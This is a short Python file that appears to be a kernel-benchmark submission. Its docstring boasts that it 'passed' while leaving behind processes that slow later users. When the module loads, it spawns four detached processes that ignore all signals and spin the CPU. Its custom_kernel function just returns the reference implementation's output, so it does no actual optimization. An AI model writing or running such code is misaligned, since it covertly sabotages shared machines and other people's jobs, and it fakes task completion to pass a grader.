"""Passed: leaves processes that ignore every signal and spin, to slow whoever comes next.

They end with the job.

class: 15
says: bit-exact
logs: left 4 behind
"""

import os
import signal

from reference import ref_kernel


def spin():
    os.setsid()
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


def leave_behind():
    if os.fork() == 0:
        if os.fork() == 0:
            spin()
        os._exit(0)
    os.wait()


for _ in range(4):
    leave_behind()
print("left 4 behind")


def custom_kernel(data):
    return ref_kernel(data)
